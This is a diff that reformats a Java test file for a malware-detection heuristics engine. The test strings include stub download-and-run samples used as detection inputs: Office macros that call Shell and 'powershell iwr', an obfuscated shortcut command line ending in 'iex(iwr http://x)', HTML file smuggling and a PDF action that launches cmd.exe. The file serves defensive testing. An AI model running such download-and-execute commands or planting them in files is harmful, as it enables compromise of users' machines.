@@ -54,7 +54,16 @@ class HeuristicsTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"setup.exe", "jquery.min.js", "report.2026.pdf", "data.csv.js", "archive.tar.gz", "v1.2.exe", "a.pdf.lnk"})
+    @ValueSource(
+            strings = {
+                "setup.exe",
+                "jquery.min.js",
+                "report.2026.pdf",
+                "data.csv.js",
+                "archive.tar.gz",
+                "v1.2.exe",
+                "a.pdf.lnk"
+            })
     void leavesOrdinaryNamesAlone(String name) {
         assertThat(names("x", name, null)).isEmpty();
         assertThat(names("x", name, null, "zip")).isEmpty();
@@ -62,33 +71,38 @@ class HeuristicsTest {
 
     @Test
     void notesProgramsInMails() {
-        assertThat(names("MZ", "setup.exe", PROGRAM, "mail", "zip")).containsExactly("Heuristic.ProgramInMailedArchive NOTE");
+        assertThat(names("MZ", "setup.exe", PROGRAM, "mail", "zip"))
+                .containsExactly("Heuristic.ProgramInMailedArchive NOTE");
         assertThat(names("MZ", "setup.exe", PROGRAM, "mail")).containsExactly("Heuristic.DangerousAttachment NOTE");
         assertThat(names("MZ", "setup.exe", PROGRAM, "zip")).isEmpty();
     }
 
     @Test
     void tellsMacrosThatDownload() {
-        String macro = "Sub AutoOpen()\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", u\nShell(\"a\")\nEnd Sub";
+        String macro =
+                "Sub AutoOpen()\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", u\nShell(\"a\")\nEnd Sub";
         assertThat(names(macro, "Module1.bas", null, "ole2")).containsExactly("Heuristic.MacroDownloads HEURISTIC");
     }
 
     @Test
     void tellsMacrosWhoseWordsAreInPieces() {
         String macro = "Sub Workbook_Open()\nShell (\"power\" & \"shell -c iwr ht\" & \"tp://x\")\nEnd Sub";
-        assertThat(names(macro, "ThisWorkbook.cls", null, "zip", "ole2")).containsExactly("Heuristic.MacroDownloads HEURISTIC");
+        assertThat(names(macro, "ThisWorkbook.cls", null, "zip", "ole2"))
+                .containsExactly("Heuristic.MacroDownloads HEURISTIC");
     }
 
     @Test
     void leavesOrdinaryMacrosAlone() {
         String macro = "Private Sub Workbook_Open()\n' Shell(\"no\") urldownloadtofile\nSheets(1).Activate\nEnd Sub";
         assertThat(names(macro, "ThisWorkbook.cls", null, "ole2")).isEmpty();
-        assertThat(names("Sub Export()\nShell \"notepad\"\nEnd Sub", "M.bas", null, "ole2")).isEmpty();
+        assertThat(names("Sub Export()\nShell \"notepad\"\nEnd Sub", "M.bas", null, "ole2"))
+                .isEmpty();
     }
 
     @Test
     void tellsRemoteTemplates() {
-        String head = "<Relationships><Relationship Id=\"r\" Type=\"http://x/relationships/attachedTemplate\" Target=\"";
+        String head =
+                "<Relationships><Relationship Id=\"r\" Type=\"http://x/relationships/attachedTemplate\" Target=\"";
         String tail = "\" TargetMode=\"External\"/></Relationships>";
         assertThat(names(head + "https://x.example/t.dotm" + tail, "word/_rels/settings.xml.rels", null, "zip"))
                 .containsExactly("Heuristic.RemoteTemplate HEURISTIC");
@@ -100,7 +114,8 @@ class HeuristicsTest {
 
     @Test
     void leavesLinksOfDocumentsAlone() {
-        String text = "<Relationship Type=\"http://x/relationships/hyperlink\" Target=\"http://x\" TargetMode=\"External\"/>";
+        String text =
+                "<Relationship Type=\"http://x/relationships/hyperlink\" Target=\"http://x\" TargetMode=\"External\"/>";
         assertThat(names(text, "word/_rels/document.xml.rels", null, "zip")).isEmpty();
     }
 
@@ -113,7 +128,11 @@ class HeuristicsTest {
 
     @Test
     void tellsShortcutsThatFetch() {
-        assertThat(names("C:\\Windows\\system32\\cmd.exe\n/c p^owershell -w hidden iex(iwr http://x)\n", "command line", null, "lnk"))
+        assertThat(names(
+                        "C:\\Windows\\system32\\cmd.exe\n/c p^owershell -w hidden iex(iwr http://x)\n",
+                        "command line",
+                        null,
+                        "lnk"))
                 .containsExactly("Heuristic.ShortcutStartsInterpreter HEURISTIC");
         assertThat(names("%comspec%\n/k \"C:\\Program Files\\VsDevCmd.bat\"\n", "command line", null, "lnk"))
                 .isEmpty();
@@ -121,7 +140,8 @@ class HeuristicsTest {
 
     @Test
     void tellsShortcutsInMailedDiscImages() {
-        assertThat(names("L", "a.lnk", MagicType.LNK.mediaType(), "mail", "iso")).contains("Heuristic.MailedShortcut HEURISTIC");
+        assertThat(names("L", "a.lnk", MagicType.LNK.mediaType(), "mail", "iso"))
+                .contains("Heuristic.MailedShortcut HEURISTIC");
     }
 
     @Test
@@ -130,20 +150,27 @@ class HeuristicsTest {
                 + "'))]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>";
         assertThat(names(page, "a.html", "text/html", "mail")).contains("Heuristic.HtmlSmuggling HEURISTIC");
         assertThat(names(page, "a.html", "text/html")).containsExactly("Heuristic.HtmlStoresFile NOTE");
-        assertThat(names("<html><script>var x = 1</script>", "a.html", "text/html", "mail")).isEmpty();
+        assertThat(names("<html><script>var x = 1</script>", "a.html", "text/html", "mail"))
+                .isEmpty();
     }
 
     @Test
     void tellsPdfActions() {
         assertThat(names("OpenAction Launch cmd.exe /c calc\n", "actions", null, "pdf"))
                 .containsExactly("Heuristic.PdfLaunches HEURISTIC");
-        assertThat(names("OpenAction JavaScript\n", "actions", null, "pdf")).containsExactly("Heuristic.PdfRunsScript NOTE");
+        assertThat(names("OpenAction JavaScript\n", "actions", null, "pdf"))
+                .containsExactly("Heuristic.PdfRunsScript NOTE");
     }
 
     @Test
     void tellsProgramsInOneNote() {
-        assertThat(names("@echo off\nstart x", "file1", "text/plain", "onenote")).containsExactly("Heuristic.OneNoteProgram HEURISTIC");
-        assertThat(names(new String(HexFormat.of().parseHex("89504e47"), StandardCharsets.ISO_8859_1), "file1", "image/png", "onenote"))
+        assertThat(names("@echo off\nstart x", "file1", "text/plain", "onenote"))
+                .containsExactly("Heuristic.OneNoteProgram HEURISTIC");
+        assertThat(names(
+                        new String(HexFormat.of().parseHex("89504e47"), StandardCharsets.ISO_8859_1),
+                        "file1",
+                        "image/png",
+                        "onenote"))
                 .isEmpty();
     }
 
@@ -152,7 +179,9 @@ class HeuristicsTest {
         HeuristicPolicy off = new HeuristicPolicy(Map.of(Heuristic.DOUBLE_EXTENSION, Heuristic.Grade.OFF));
         assertThat(look("MZ", "a.pdf.exe", PROGRAM, off)).isEmpty();
         HeuristicPolicy note = new HeuristicPolicy(Map.of(Heuristic.DOUBLE_EXTENSION, Heuristic.Grade.NOTE));
-        assertThat(look("MZ", "a.pdf.exe", PROGRAM, note)).extracting(Detection::kind).containsExactly(Detection.Kind.NOTE);
+        assertThat(look("MZ", "a.pdf.exe", PROGRAM, note))
+                .extracting(Detection::kind)
+                .containsExactly(Detection.Kind.NOTE);
         assertThat(new Heuristics(off).count()).isEqualTo(Heuristic.values().length - 1);
     }
 }
